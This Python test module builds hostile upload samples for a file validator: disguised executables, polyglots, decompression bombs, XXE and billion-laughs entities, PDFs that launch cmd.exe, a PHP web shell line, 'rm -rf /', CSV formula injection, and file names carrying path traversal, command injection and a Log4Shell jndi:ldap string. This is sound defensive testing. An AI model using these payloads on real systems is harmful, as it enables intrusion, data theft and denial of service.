"""Files made to deceive, to burst or to act: made here one by one, none of them anybody's. Each with the code that answers it."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
from PIL import Image, PngImagePlugin

from tests import samples
from tests.samples import docx, pdf, picture, xlsx

Name = pikepdf.Name
Case = tuple[str, Callable[[], bytes], set[str]]  # the name it comes with, its bytes, the codes that may answer it


def _zip(**parts: bytes) -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as container:
        for name, part in parts.items():
            container.writestr(name, part)
    return content.getvalue()


# -- what it is not -------------------------------------------------------------------------------------------------------
BEGINNINGS = {
    "programme": b"MZ\x90\0\3\0\0\0", "elf": b"\x7fELF\2\1\1\0", "macho": b"\xcf\xfa\xed\xfe", "shell": b"#!/bin/sh\nrm -rf /\n", "batch": b"@echo off\r\ndel *.*\r\n",
    "html": b"<!DOCTYPE html><script>alert(1)</script>", "html-plain": b"<html><body onload=alert(1)>", "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "svg-xml": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>', "php": b"<?php system($_GET[0]); ?>", "script": b"fetch('/cases/')", "xml": b'<?xml version="1.0"?><a/>',
    "json": b'{"a": 1}', "csv": b"=cmd|' /C calc'!A0,1\n", "text": "身份证复印件".encode(), "rtf": b"{\\rtf1\\ansi}", "postscript": b"%!PS-Adobe-3.0",
    "eps": b"\xc5\xd0\xd3\xc6", "gif87": b"GIF87a\1\0\1\0", "gif89": b"GIF89a\1\0\1\0", "bmp": b"BM\x46\0\0\0", "icon": b"\0\0\1\0\1\0", "psd": b"8BPS\0\1", "jpeg2000": b"\0\0\0\x0cjP  \r\n\x87\n",
    "jxl": b"\xff\x0a\xfa\x1f", "avif": b"\0\0\0\x20ftypavif\0\0\0\0", "quicktime": b"\0\0\0\x14ftypqt  \0\0\0\0", "matroska": b"\x1aE\xdf\xa3", "avi": b"RIFF\x10\0\0\0AVI LIST", "flac": b"fLaC\0\0\0\x22",
    "midi": b"MThd\0\0\0\6", "silk": b"\2#!SILK_V3", "wma": b"\x30\x26\xb2\x75\x8e\x66\xcf\x11", "flv": b"FLV\1\5", "gzip": b"\x1f\x8b\x08\0", "bzip2": b"BZh91AY&SY", "xz": b"\xfd7zXZ\0", "7z": b"7z\xbc\xaf\x27\x1c",
    "rar": b"Rar!\x1a\x07\1\0", "zstd": b"\x28\xb5\x2f\xfd", "cab": b"MSCF\0\0\0\0", "java": b"\xca\xfe\xba\xbe\0\0\0\x34", "dex": b"dex\n035\0", "link": b"L\0\0\0\1\x14\2\0", "flash": b"CWS\x0a", "wasm": b"\0asm\1\0\0\0",
    "sqlite": b"SQLite format 3\0", "font": b"\0\1\0\0\0\x0f", "woff": b"wOF2", "mail": b"From: a@b\r\nSubject: x\r\n", "contact": b"BEGIN:VCARD\r\n", "webpage": b"MIME-Version: 1.0\r\nContent-Type: multipart/related",
    "djvu": b"AT&TFORM", "iso": bytes(4096), "fdf": b"%FDF-1.2", "blank": b" " * 5000, "newlines": b"\r\n" * 900, "noise": bytes(range(128, 240)) * 40,
    "pdf-later": b"\n" * 20 + b"%PDF-1.7\n%%EOF",
}  # fmt: skip
OLD = {"old-word": "WordDocument", "old-excel": "Workbook", "installer": "msi", "locked-docx": "EncryptedPackage"}


def disguised() -> dict[str, Case]:
    names = ("photo.jpg", "scan.pdf", "talk.mp3", "letter.docx", "photo.png", "扫描件.tif", "table.xlsx")
    found: dict[str, Case] = {
        f"disguised {kind}": (names[at % len(names)], lambda head=head: head + bytes(600), {"kind_unknown"}) for at, (kind, head) in enumerate(BEGINNINGS.items())
    }  # fmt: skip
    for kind, inner in OLD.items():
        found[f"disguised {kind}"] = ("a.docx", lambda inner=inner: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + inner.encode("utf-16-le") * 50, {"office_old"})  # fmt: skip
    found["disguised film"] = ("a.m4a", lambda: samples.m4a(b"vide", b"mp42"), {"kind_unknown"})
    found["disguised film in ogg"] = ("a.ogg", lambda: samples.ogg(b"\x80theora"), {"kind_unknown"})
    found["disguised archive"] = ("a.docx", lambda: _zip(**{"a.txt": b"x"}), {"kind_unknown"})
    found["disguised slides"] = ("a.docx", lambda: _zip(**{"[Content_Types].xml": b"<Types/>", "ppt/presentation.xml": b"<p/>"}), {"kind_unknown"})  # fmt: skip
    found["disguised open document"] = ("a.docx", lambda: _zip(mimetype=b"application/vnd.oasis.opendocument.text", **{"content.xml": b"<a/>"}), {"kind_unknown"})  # fmt: skip
    found["disguised app"] = ("a.docx", lambda: _zip(**{"AndroidManifest.xml": b"\3\0", "classes.dex": b"dex"}), {"kind_unknown", "active"})  # fmt: skip
    return found


# -- broken ---------------------------------------------------------------------------------------------------------------
def broken() -> dict[str, Case]:
    codes = {"broken", "kind_unknown", "two_kinds", "active", "too_heavy"}
    found: dict[str, Case] = {
        "nothing at all": ("a.jpg", lambda: b"", {"file_empty"}),
        "one byte": ("a.jpg", lambda: b"\xff", {"kind_unknown"}),
    }
    for name, (content, _kind) in samples.GOOD.items():
        if name != "talk.mp3":  # a recording that was stopped is a shorter recording
            found[f"half of {name}"] = (name, lambda content=content: content[: len(content) // 2 + 7], codes)
        found[f"head of {name}"] = (name, lambda content=content: content[:16], codes)
        found[f"head and zeros of {name}"] = (name, lambda content=content: content[:12] + bytes(5000), codes)
        found[f"head and noise of {name}"] = (
            name,
            lambda content=content: content[:12] + bytes(range(1, 250)) * 30,
            codes,
        )
    found["a recording that claims its tag never ends"] = (
        "a.mp3",
        lambda: b"ID3\4\0\0\x7f\x7f\x7f\x7f" + bytes(100),
        {"broken"},
    )
    found["a recording with a bad tag"] = ("a.mp3", lambda: b"ID3\4\0\0\xff\xff\xff\xff" + bytes(100), {"broken"})
    found["a recording of no frames"] = ("a.mp3", lambda: b"\xff\xfb\xf0\x00" + bytes(900), {"broken"})
    found["a recording with words between its frames"] = (
        "a.mp3",
        lambda: samples.mp3(5) + b"words" + samples.mp3(5),
        {"broken"},
    )
    found["aac of empty frames"] = ("a.aac", lambda: b"\xff\xf1\x50\x80\x00\x1f\xfc" * 90, {"broken"})
    found["aac that ends early"] = ("a.aac", lambda: samples.aac()[:-3], {"broken"})
    found["amr of a kind there is none of"] = ("a.amr", lambda: b"#!AMR\n" + b"\x54" * 400, {"broken"})
    found["amr with bits where none are"] = ("a.amr", lambda: b"#!AMR\n" + b"\xbf" * 400, {"broken"})
    found["wav that claims four gigabytes"] = (
        "a.wav",
        lambda: samples.wav()[:4] + b"\xff\xff\xff\xff" + samples.wav()[8:],
        {"broken"},
    )
    found["wav whose chunk never ends"] = (
        "a.wav",
        lambda: samples.wav()[:40] + b"\xff\xff\xff\x7f" + samples.wav()[44:],
        {"broken"},
    )
    found["wav of an unknown coding"] = (
        "a.wav",
        lambda: samples.wav()[:20] + b"\x99\x99" + samples.wav()[22:],
        {"broken"},
    )
    found["wav without sound"] = ("a.wav", lambda: b"RIFF\x04\0\0\0WAVE", {"broken"})
    found["ogg whose sum is wrong"] = ("a.ogg", lambda: samples.ogg()[:-1] + b"!", {"broken"})
    found["ogg that begins in the middle"] = ("a.ogg", lambda: samples.ogg_page(3, b"x") * 4, {"broken"})
    found["ogg of one page"] = ("a.ogg", lambda: samples.ogg(pages=1), {"broken"})
    found["m4a without sound"] = ("a.m4a", lambda: samples.box(b"ftyp", b"M4A \0\0\0\0") + samples.box(b"moov") + samples.box(b"mdat"), {"kind_unknown"})  # fmt: skip
    found["m4a whose box is too long"] = ("a.m4a", lambda: samples.m4a()[:-64] + b"", {"broken"})
    found["m4a whose box is too short"] = ("a.m4a", lambda: samples.m4a() + struct.pack(">I", 3) + b"free", {"broken"})
    found["a pdf without pages"] = ("a.pdf", lambda: pdf(0), {"broken"})
    found["a pdf without an end"] = ("a.pdf", lambda: pdf().replace(b"%%EOF", b""), {"broken"})
    found["a pdf that begins only"] = ("a.pdf", lambda: b"%PDF-1.7\n%%EOF", {"broken"})
    found["words of another alphabet"] = ("a.mp3", lambda: "<script>".encode("utf-16") + bytes(600), {"broken"})
    found["a pdf whose pages are a ring"] = ("a.pdf", lambda: pdf(2, _ring), {"broken", "too_heavy"})
    found["a png with a wrong sum"] = (
        "a.png",
        lambda: picture("PNG")[:-20] + b"\0\0\0\0" + picture("PNG")[-16:],
        {"broken"},
    )
    return found


def _ring(made: pikepdf.Pdf) -> None:
    made.Root.Pages.Kids = pikepdf.Array([made.Root.Pages, made.Root.Pages])


# -- two kinds at once ----------------------------------------------------------------------------------------------------
def polyglots() -> dict[str, Case]:
    archive = _zip(**{"payload.exe": b"MZ"})
    page = b"<html><script>alert(document.cookie)</script></html>"
    found: dict[str, Case] = {}
    for name in (
        "photo.jpg",
        "photo.png",
        "photo.webp",
        "photo.heic",
        "scan.tif",
        "talk.wav",
        "talk.m4a",
        "talk.ogg",
        "talk.amr",
        "talk.aac",
        "scan.pdf",
    ):
        content = samples.GOOD[name][0]
        found[f"{name} and an archive"] = (name, lambda content=content: content + archive, {"two_kinds", "broken"})
        found[f"{name} and a page"] = (name, lambda content=content: content + page, {"two_kinds", "broken"})
    found["a photo that is a page"] = ("a.jpg", lambda: picture(comment=page), {"two_kinds"})
    found["a photo that runs on a server"] = (
        "a.jpg",
        lambda: picture(comment=b"<?php system($_GET[0]); ?>"),
        {"two_kinds"},
    )
    found["a photo that is a pdf"] = ("a.jpg", lambda: picture(comment=pdf()), {"two_kinds"})
    found["a photo and a rar"] = ("a.jpg", lambda: picture() + b"Rar!\x1a\x07\1\0" + bytes(50), {"two_kinds"})
    found["a photo and a 7z"] = ("a.jpg", lambda: picture() + b"7z\xbc\xaf\x27\x1c" + bytes(50), {"two_kinds"})
    found["a png whose text is a page"] = ("a.png", lambda: _png_with_text("Comment", page.decode()), {"two_kinds"})
    found["a recording whose tag is a page"] = (
        "a.mp3",
        lambda: b"ID3\4\0\0\0\0\0\x7f" + page.ljust(127) + samples.mp3()[20:],
        {"two_kinds"},
    )
    found["a programme before a document"] = ("a.docx", lambda: b"MZ" + bytes(100) + docx(), {"kind_unknown"})
    found["a pdf and a programme"] = ("a.pdf", lambda: pdf() + b"MZ" + bytes(5000), {"two_kinds"})
    found["a pdf twice"] = ("a.pdf", lambda: pdf() + pdf(), {"two_kinds", "broken", "active"})
    found["a document with a word behind it"] = ("a.docx", lambda: docx() + b"#!/bin/sh", {"two_kinds", "broken"})
    found["a document with a comment of the archive"] = ("a.docx", lambda: _commented(docx()), {"two_kinds"})
    found["a document of two minds"] = ("a.docx", lambda: docx(**{"WORD/document.xml": b"<a/>"}), {"two_kinds"})
    found["a letter and a table"] = ("a.docx", lambda: docx(**{"xl/vbaProject.bin": b"x"}), {"active"})
    return found


def _commented(content: bytes) -> bytes:
    made = io.BytesIO(content)
    with zipfile.ZipFile(made, "a") as container:
        container.comment = b"<script>alert(1)</script>"
    return made.getvalue()


def _png_with_text(key: str, text: str, *, packed: bool = False) -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text(key, text, zip=packed)
    return picture("PNG", pnginfo=info)


# -- what bursts ----------------------------------------------------------------------------------------------------------
def bombs() -> dict[str, Case]:
    heavy = {"too_heavy", "broken"}
    packed = zlib.compress(bytes(300 * 1024 * 1024), 9)
    found: dict[str, Case] = {
        f"a png of {side} by {side}": ("a.png", lambda side=side: samples.png_of(side, side), heavy) for side in (9_000, 30_000, 100_000, 2**31 - 1)
    }  # fmt: skip
    found["a png of no size"] = ("a.png", lambda: samples.png_of(0, 0), heavy)
    found["a png one pixel high"] = ("a.png", lambda: samples.png_of(2**31 - 1, 1), heavy)
    found["a png whose text bursts"] = (
        "a.png",
        lambda: samples.png_of(10, 10, samples.png_chunk(b"zTXt", b"Comment\0\0" + packed)),
        heavy,
    )
    found["a png whose xmp bursts"] = (
        "a.png",
        lambda: samples.png_of(10, 10, samples.png_chunk(b"iTXt", b"XML:com.adobe.xmp\0\1\0\0\0" + packed)),
        heavy,
    )
    found["a png whose profile bursts"] = (
        "a.png",
        lambda: samples.png_of(10, 10, samples.png_chunk(b"iCCP", b"profile\0\0" + packed)),
        heavy,
    )
    found["a png whose picture ends early"] = ("a.png", lambda: samples.png_of(5000, 5000), heavy)
    found["a moving png"] = ("a.png", lambda: _moving("PNG"), {"animated"})
    found["a moving webp"] = ("a.webp", lambda: _moving("WEBP"), {"animated"})
    found["a jpeg of 65,500 by 65,500"] = ("a.jpg", lambda: _resized_jpeg(65_500, 65_500), heavy)
    found["a jpeg of nine thousand by nine thousand"] = ("a.jpg", lambda: _resized_jpeg(9_000, 9_000), heavy)
    found["a jpeg of a thousand passes"] = ("a.jpg", _many_scans, {"too_heavy"})
    found["a jpeg whose exif is a ring"] = ("a.jpg", lambda: _broken_after_exif(_exif_ring()), heavy)
    found["a webp of 16,383 by 16,383"] = ("a.webp", lambda: _webp(16_383, 16_383), heavy)
    found["a tiff of a hundred thousand by a hundred thousand"] = ("a.tif", lambda: _resized_tiff(100_000), heavy)
    found["a tiff of a thousand pages"] = ("a.tif", lambda: samples.tiff(1000), {"too_heavy"})
    found["a heic of thirty thousand by thirty thousand"] = ("a.heic", lambda: samples.HEIC.replace(struct.pack(">II", 64, 64), struct.pack(">II", 30_000, 30_000), 1), heavy)  # fmt: skip
    found["a document of a gigabyte"] = ("a.docx", lambda: _document_of(1024), {"too_heavy"})
    found["a table of a gigabyte in four parts"] = ("a.xlsx", lambda: xlsx(**{f"xl/worksheets/sheet{n}.xml": bytes(260 * 1024**2) for n in range(4)}), {"too_heavy"})  # fmt: skip
    found["a document that lies about its size"] = ("a.docx", _lying, heavy)
    found["a document whose parts lie over one another"] = ("a.docx", _overlapping, heavy | {"two_kinds"})
    found["a document of five thousand parts"] = (
        "a.docx",
        lambda: docx(**{f"word/media/image{n}.png": b"x" for n in range(5000)}),
        {"too_heavy"},
    )
    found["a document of a billion laughs"] = ("a.docx", lambda: docx(**{"word/document.xml": _laughs()}), {"active"})
    found["a document with an outer entity"] = ("a.docx", lambda: docx(**{"word/document.xml": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'}), {"active"})  # fmt: skip
    found["a table whose entities hide in utf-16"] = ("a.xlsx", lambda: xlsx(**{"xl/workbook.xml": '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'.encode("utf-16")}), {"active"})  # fmt: skip
    found["archives in an archive"] = ("a.docx", lambda: docx(**{"word/media/deep.zip": _nested(6)}), {"active"})
    found["a document so deep that none can read it"] = (
        "a.docx",
        lambda: docx(**{"word/document.xml": b"<a>" * 1000 + b"</b>" * 1000}),
        {"broken"},
    )
    found["a pdf whose objects burst"] = ("a.pdf", _pdf_bomb, heavy)
    found["a pdf of very many pages"] = ("a.pdf", lambda: pdf(2500), {"too_heavy"})
    found["a pdf nested without end"] = ("a.pdf", lambda: pdf(1, _deep), heavy)
    found["a recording of thirty thousand boxes"] = (
        "a.m4a",
        lambda: samples.m4a() + samples.box(b"free") * 30_000,
        {"too_heavy"},
    )
    found["a file over the limit"] = ("a.jpg", lambda: picture() + bytes(20 * 1024 * 1024), {"file_too_large"})
    found["a file one byte over the limit"] = (
        "a.pdf",
        lambda: pdf().ljust(20 * 1024 * 1024 + 1, b"\n"),
        {"file_too_large"},
    )
    return found


def _moving(kind: str) -> bytes:
    frames, content = [Image.new("RGB", (20, 20), colour) for colour in ("red", "blue", "green")], io.BytesIO()
    frames[0].save(content, kind, save_all=True, append_images=frames[1:], duration=100)
    return content.getvalue()


def _resized_jpeg(width: int, height: int) -> bytes:
    content = picture()
    at = content.index(b"\xff\xc0")
    return content[: at + 5] + struct.pack(">HH", height, width) + content[at + 9 :]


def _many_scans() -> bytes:
    """Each pass over the picture adds next to nothing to the file, and costs the reader as much as the first."""
    content = picture(size=(3000, 3000), progressive=True)
    at = content.rindex(b"\xff\xda")
    last = content[at:-2]
    return content[:-2] + last * 1000 + content[-2:]


def _exif_ring() -> bytes:
    return b"Exif\0\0II*\0\x08\0\0\0\1\0" + struct.pack("<HHII", 0x8769, 4, 1, 8) + struct.pack("<I", 8)


def _broken_after_exif(exif: bytes) -> bytes:
    content = picture()
    return content[:2] + b"\xff\xe1" + struct.pack(">H", len(exif) + 2) + exif + content[2:300]


def _webp(width: int, height: int) -> bytes:
    frame = b"\x2f" + struct.pack("<I", width - 1 | (height - 1) << 14) + bytes(40)
    body = b"WEBPVP8L" + struct.pack("<I", len(frame)) + frame + b"\0" * (len(frame) & 1)
    return b"RIFF" + struct.pack("<I", len(body)) + body


def _resized_tiff(side: int) -> bytes:
    content = bytearray(samples.tiff(1))
    at = struct.unpack("<I", content[4:8])[0]
    for entry in range(struct.unpack("<H", content[at : at + 2])[0]):
        start = at + 2 + entry * 12
        if struct.unpack("<H", content[start : start + 2])[0] in (256, 257):
            content[start + 2 : start + 12] = struct.pack("<HII", 4, 1, side)
    return bytes(content)


def _document_of(megabytes: int) -> bytes:
    content = io.BytesIO(docx())
    with (
        zipfile.ZipFile(content, "a", zipfile.ZIP_DEFLATED) as container,
        container.open("word/media/image1.png", "w", force_zip64=True) as part,
    ):
        for _piece in range(megabytes):
            part.write(bytes(1024 * 1024))
    return content.getvalue()


def _lying() -> bytes:
    """The directory says ten bytes; the part unpacks to three hundred megabytes."""
    content = docx(**{"word/media/image1.png": bytes(300 * 1024 * 1024)})
    return content.replace(struct.pack("<I", 300 * 1024 * 1024), struct.pack("<I", 10))


def _overlapping() -> bytes:
    """Every entry of the directory points to the same part."""
    content = docx(**{"word/media/image1.png": bytes(1024 * 1024)})
    with zipfile.ZipFile(io.BytesIO(content)) as container:
        end, infos = container.start_dir, container.infolist()
    last = infos[-1]
    directory = b"".join(
        _entry(name, last)
        for name in [info.filename for info in infos] + [f"word/media/image{n}.png" for n in range(2, 150)]
    )
    count = len(infos) + 148
    return content[:end] + directory + b"PK\5\6\0\0\0\0" + struct.pack("<HHIIH", count, count, len(directory), end, 0)


def _entry(name: str, part: zipfile.ZipInfo) -> bytes:
    return struct.pack(
        "<4s6H3I5H2I", b"PK\1\2", 20, 20, 0, 8, 0, 0, part.CRC, part.compress_size, part.file_size, len(name), 0, 0, 0, 0, 0, part.header_offset
    ) + name.encode()  # fmt: skip


def _laughs() -> bytes:
    lines = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE a [<!ENTITY l0 "lol">{lines}]><a>&l9;</a>'.encode()


def _nested(depth: int) -> bytes:
    content = bytes(100_000)
    for level in range(depth):
        content = _zip(**{f"{level}.zip": content})
    return content


def _pdf_bomb() -> bytes:
    """An object stream of three gigabytes in three megabytes, which a reader must unpack to find the first page."""
    squeezed = zlib.compressobj(9)
    packed = b"".join(squeezed.compress(bytes(1024 * 1024)) for _piece in range(3000)) + squeezed.flush()
    head = (
        b"%PDF-1.5\n1 0 obj\n<</Type/ObjStm/N 1/First 5/Length "
        + str(len(packed)).encode()
        + b"/Filter/FlateDecode>>\nstream\n"
    )
    body = head + packed + b"\nendstream\nendobj\n"
    rows = struct.pack(">BHB", 0, 0, 0) + b"\1" + struct.pack(">H", 9) + b"\0" + b"\2" + struct.pack(">H", 1) + b"\0"
    table = (
        f"3 0 obj\n<</Type/XRef/Size 3/W[1 2 1]/Root 2 0 R/Length {len(rows)}>>\nstream\n".encode()
        + rows
        + b"\nendstream\nendobj\n"
    )
    return body + table + b"startxref\n" + str(len(body)).encode() + b"\n%%EOF\n"


def _deep(made: pikepdf.Pdf) -> None:
    inner = pikepdf.Array([])
    for _level in range(90):
        inner = pikepdf.Array([inner])
    made.Root.Deep = inner


# -- what acts by itself, or is locked ------------------------------------------------------------------------------------
def active() -> dict[str, Case]:
    found: dict[str, Case] = {}
    for kind, change in PDF_ACTS.items():
        found[f"a pdf with {kind}"] = ("a.pdf", lambda change=change: pdf(1, change), {"active"})
    for packed in (pikepdf.ObjectStreamMode.generate, pikepdf.ObjectStreamMode.disable):
        found[f"a pdf with a script, {packed.name}"] = ("a.pdf", lambda packed=packed: pdf(1, PDF_ACTS["a script at its opening"], object_stream_mode=packed), {"active"})  # fmt: skip
    found["a pdf under a password"] = (
        "a.pdf",
        lambda: pdf(1, encryption=pikepdf.Encryption(owner="a", user="b")),
        {"pdf_locked"},
    )
    found["a pdf against copying"] = (
        "a.pdf",
        lambda: pdf(1, encryption=pikepdf.Encryption(owner="a", user="")),
        {"pdf_locked"},
    )
    found["a pdf with old protection"] = (
        "a.pdf",
        lambda: pdf(1, encryption=pikepdf.Encryption(owner="a", user="b", R=4)),
        {"pdf_locked"},
    )
    for kind, (make, parts) in OFFICE_ACTS.items():
        found[f"a document with {kind}"] = ("a.docx", lambda make=make, parts=parts: make(**parts), {"active"})
    for kind, name in {
        "a way up": "../../etc/cron.d/x.xml",
        "a root": "/etc/passwd.xml",
        "a drive": "C:\\x.xml",
        "a way up on windows": "..\\x.xml",
    }.items():
        found[f"a document with {kind} in it"] = ("a.docx", lambda name=name: docx(**{name: b"<a/>"}), {"broken"})
    found["a document whose parts are locked"] = ("a.docx", _locked_part, {"office_old", "broken"})
    return found


def _action(kind: str, **more):
    def change(made: pikepdf.Pdf) -> None:
        made.Root.OpenAction = pikepdf.Dictionary(S=Name(f"/{kind}"), **more)

    return change


def _annotation(kind: str, **more):
    def change(made: pikepdf.Pdf) -> None:
        made.pages[0].Annots = pikepdf.Array(
            [pikepdf.Dictionary(Type=Name.Annot, Subtype=Name(f"/{kind}"), Rect=[0, 0, 9, 9], **more)]
        )

    return change


def _script_in_names(made: pikepdf.Pdf) -> None:
    made.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=["x", pikepdf.Dictionary(S=Name.JavaScript, JS="app.alert(1)")])
    )


def _script_on_page(made: pikepdf.Pdf) -> None:
    made.pages[0].AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=Name.JavaScript, JS="app.alert(1)"))


def _carries(made: pikepdf.Pdf) -> None:
    made.attachments["payload.exe"] = pikepdf.AttachedFileSpec(made, b"MZ")


def _xfa(made: pikepdf.Pdf) -> None:
    made.Root.AcroForm = pikepdf.Dictionary(XFA=made.make_stream(b"<xdp/>"))


def _next(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = pikepdf.Dictionary(
        S=Name.GoTo, D="x", Next=pikepdf.Array([pikepdf.Dictionary(S=Name.Launch, F="cmd.exe")])
    )


PDF_ACTS = {
    "a script at its opening": _action("JavaScript", JS="app.alert(1)"), "a script among its names": _script_in_names, "a script on a page": _script_on_page,
    "a programme to start": _action("Launch", F="cmd.exe"), "a programme to start afterwards": _next, "a form to send": _action("SubmitForm", F="x"), "data to fetch": _action("ImportData", F="x"),
    "another file to open": _action("GoToR", F="x", D="y"), "a carried file to open": _action("GoToE", D="y"), "a film to play": _action("Rendition"), "a carried file": _carries,
    "a pinned file": _annotation("FileAttachment"), "rich media": _annotation("RichMedia"), "a model in space": _annotation("3D"), "a screen": _annotation("Screen"), "an old film": _annotation("Movie"),
    "a sound": _annotation("Sound"), "a link that runs a script": _annotation("Link", A=pikepdf.Dictionary(S=Name.JavaScript, JS="x")), "a form of xml": _xfa,
}  # fmt: skip


def _rels(kind: str) -> bytes:
    return f'<Relationships xmlns="urn:r"><Relationship TargetMode="External" Target="http://198.51.100.7/x" Type="urn:x/{kind}" Id="1"/></Relationships>'.encode()


def _types(kind: str) -> bytes:
    return f'<Types xmlns="urn:t"><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.{kind}.main+xml"/></Types>'.encode()


OFFICE_ACTS = {
    "macros": (docx, {"word/vbaProject.bin": b"x"}), "macros in a table": (xlsx, {"xl/vbaProject.bin": b"x"}), "macros by another name": (docx, {"word/harmless.bin": b"x"}),
    "macros by its type": (docx, {"[Content_Types].xml": _types("document.macroEnabled")}), "macros by its type in utf-16": (docx, {"[Content_Types].xml": _types("document.macroEnabled").decode().encode("utf-16")}),
    "controls": (docx, {"word/activeX/activeX1.xml": b"<a/>"}), "a carried object": (docx, {"word/embeddings/oleObject1.bin": b"x"}), "a carried document": (docx, {"word/embeddings/a.docx": b"x"}),
    "links to other tables": (xlsx, {"xl/externalLinks/externalLink1.xml": b"<a/>"}), "old macros": (xlsx, {"xl/macrosheets/sheet1.xml": b"<a/>"}), "old dialogues": (xlsx, {"xl/dialogsheets/sheet1.xml": b"<a/>"}),
    "a template from elsewhere": (docx, {"word/_rels/settings.xml.rels": _rels("attachedTemplate")}), "an object from elsewhere": (docx, {"word/_rels/document.xml.rels": _rels("oleObject")}),
    "a picture from elsewhere": (docx, {"word/_rels/document.xml.rels": _rels("image")}), "a frame from elsewhere": (docx, {"word/_rels/document.xml.rels": _rels("frame")}),
    "a page in it": (docx, {"word/afchunk.mht": b"x"}), "a page in html in it": (docx, {"word/afchunk.htm": b"x"}), "buttons of its own": (xlsx, {"customUI/customUI.xml": b"<a/>"}),
    "a programme in it": (docx, {"word/media/image1.exe": b"MZ"}), "a script in it": (docx, {"word/media/a.js": b"x"}),
}  # fmt: skip


def _locked_part() -> bytes:
    content = bytearray(docx())
    at = content.rindex(b"PK\1\2")
    content[at + 8] |= 1
    return bytes(content)


# -- odd names, on what is not taken in anyway ----------------------------------------------------------------------------
NAMES = [
    "../../../../etc/passwd", "..\\..\\windows\\system32\\x.jpg", "/etc/shadow", "C:\\boot.ini", "a\0.jpg", "x" * 300 + ".jpg", "照" * 300 + ".jpg", "photo\u202egpj.exe", "\u2066photo.jpg", "con.jpg", ".htaccess",
    "a.jpg.php", "a.php;.jpg", "a%00.jpg", "a%2f..%2fb.jpg", "<img src=x onerror=alert(1)>.jpg", "a\r\nSet-Cookie: x=1.jpg", "'; DROP TABLE papers_file;--.jpg", "{{ 7*7 }}.jpg", "${jndi:ldap://198.51.100.7/a}.jpg",
    " ", "...", "a.jpg ", "\ufeff.jpg", "👍.jpg", "~", "-rf", "|id", "$(id).jpg", "a/b/c/../../d.jpg",
]  # fmt: skip


def oddly_named() -> dict[str, Case]:
    return {
        f"a page by the name {name[:30]!r}": (name, lambda: b"<html><script>alert(1)</script>", {"kind_unknown"})
        for name in NAMES
    }


def all_of_them() -> dict[str, Case]:
    return {**disguised(), **broken(), **polyglots(), **bombs(), **active(), **oddly_named()}
